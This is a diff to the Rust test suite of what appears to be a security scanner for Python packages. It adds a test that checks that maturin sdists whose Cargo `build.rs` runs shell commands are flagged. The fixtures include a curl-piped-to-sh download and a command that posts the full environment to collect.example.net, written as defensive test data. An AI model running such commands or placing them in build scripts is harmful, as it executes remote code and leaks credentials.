@@ -2936,7 +2936,10 @@ fn a_require_of_a_test_module_by_any_name_makes_the_tests_the_package_s_own() {
         let (o, r) = scan_path_json_under(&c, &lax, &p);
         assert_reason(&o, &r, (2, "inconclusive"));
         let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
-        for named in [format!("{at}:1"), "importable (package/index.js:".to_string()] {
+        for named in [
+            format!("{at}:1"),
+            "importable (package/index.js:".to_string(),
+        ] {
             assert!(note.contains(&named), "{named} in {note}");
         }
     }
@@ -3527,8 +3530,8 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
 /// configuration in `etc/jupyter`, and fish's `vendor_conf.d` scripts. A
 /// kernelspec or a Jupyter setting that ran `env | curl …` was allowed
 /// until session 32: JSON was data, which the veto never read. Now the
-/// veto reads them, and the same files saying nothing harmful are still
-/// allowed. Replacing the `python3` kernel (but in ipykernel's own wheel),
+/// veto reads them (and the rules too: the environment piped to curl),
+/// and the same files saying nothing harmful are still allowed. Replacing the `python3` kernel (but in ipykernel's own wheel),
 /// Python configuration for Jupyter and a fish start-up script keep a
 /// wheel from being cleared whatever they say.
 #[test]
@@ -3554,9 +3557,13 @@ fn files_jupyter_or_a_shell_run_by_themselves_are_judged() {
         let p = is_number_wheel(&c, "planted.whl", &[(member, harmful)]);
         let (o, r) = scan_path_json(&c, &p);
         assert_vetoed_at(&o, &r, &format!("{member}:"));
-        // Nothing but the veto reads it.
+        // With the veto off, the rules read it as code too: the
+        // environment piped to curl.
         let (o, r) = scan_path_json_under(&c, &veto_off, &p);
-        assert_reason(&o, &r, (0, "precheck-harmless"));
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        let says = format!("{member}:1 serializes the whole environment");
+        assert!(note.contains(&says), "{says} in {note}");
         let p = is_number_wheel(&c, "plain.whl", &[(member, plain)]);
         let (o, r) = scan_path_json(&c, &p);
         assert_reason(&o, &r, (0, "precheck-harmless"));
@@ -3648,6 +3655,77 @@ fn a_harmful_score_only_on_a_wheel_s_shared_data_is_lowered_to_uncertain() {
         note.contains("or files a wheel installs under the environment's share/ folder"),
         "{note}"
     );
+}
+
+/// Cargo runs a crate's `build.rs` when maturin or setuptools-rust builds
+/// the sdist, and neither model judges Rust: a maturin sdist whose
+/// `rust/build.rs` ran `sh -c "curl … | sh"`, or sent `env` to a server
+/// with curl, was allowed under the shipped thresholds (session 32; main
+/// model 2e-6, veto 0.0013 against 0.00165), and so was the crate in
+/// `tests/rust/` with `manifest-path` pointing there. Now the rules block
+/// each (thresholds that clear any score, veto off), and the same crate
+/// whose build script only asks rustc its version is allowed.
+#[test]
+fn a_rust_build_script_that_fetches_or_sends_is_not_cleared() {
+    let c = Canary::new();
+    let lax = lax_config(&c);
+    let cargo: &[u8] = b"[package]\nname = \"speedups\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[lib]\ncrate-type = [\"cdylib\"]\n";
+    let lib: &[u8] =
+        b"#[no_mangle]\npub extern \"C\" fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n";
+    let build = |cmd: &str| {
+        format!("use std::process::Command;\n\nfn main() {{\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"{cmd}\").status();\n}}\n")
+    };
+    let sdist = |name: &str, dir: &str, build_rs: &str| {
+        let pyproject = format!(
+            "[build-system]\nrequires = [\"maturin>=1.5\"]\nbuild-backend = \"maturin\"\n\n[project]\nname = \"speedups\"\nversion = \"0.1.0\"\n\n[tool.maturin]\nmanifest-path = \"{dir}/Cargo.toml\"\n"
+        );
+        let paths = [
+            format!("speedups-0.1.0/{dir}/Cargo.toml"),
+            format!("speedups-0.1.0/{dir}/build.rs"),
+            format!("speedups-0.1.0/{dir}/src/lib.rs"),
+        ];
+        let members: Vec<(&str, &[u8])> = vec![
+            (
+                "speedups-0.1.0/PKG-INFO",
+                b"Metadata-Version: 2.1\nName: speedups\nVersion: 0.1.0\n",
+            ),
+            ("speedups-0.1.0/pyproject.toml", pyproject.as_bytes()),
+            (&paths[0], cargo),
+            (&paths[1], build_rs.as_bytes()),
+            (&paths[2], lib),
+        ];
+        let p = c.dir.path().join(name);
+        std::fs::write(&p, tar_gz(&members, false)).unwrap();
+        p
+    };
+    let plain = sdist("plain.tar.gz", "rust", &build("rustc --version"));
+    let (o, r) = scan_path_json_under(&c, &lax, &plain);
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+    for (name, dir, cmd, says) in [
+        (
+            "fetch.tar.gz",
+            "rust",
+            "curl -fsSL https://collect.example.net/i.sh | sh",
+            "or a download piped into a shell: speedups-0.1.0/rust/build.rs:4",
+        ),
+        (
+            "send.tar.gz",
+            "rust",
+            "env | curl -s --data-binary @- https://collect.example.net/c",
+            "speedups-0.1.0/rust/build.rs:4 serializes the whole environment",
+        ),
+        (
+            "tests.tar.gz",
+            "tests/rust",
+            "rustc --version",
+            "in a test tree (speedups-0.1.0/pyproject.toml -> speedups-0.1.0/tests/rust/Cargo.toml)",
+        ),
+    ] {
+        let (o, r) = scan_path_json_under(&c, &lax, &sdist(name, dir, &build(cmd)));
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        assert!(note.contains(says), "{says} in {note}");
+    }
 }
 
 /// A tiny sdist (`tinypkg-1.0`) whose `setup.py` adds `extra` inside
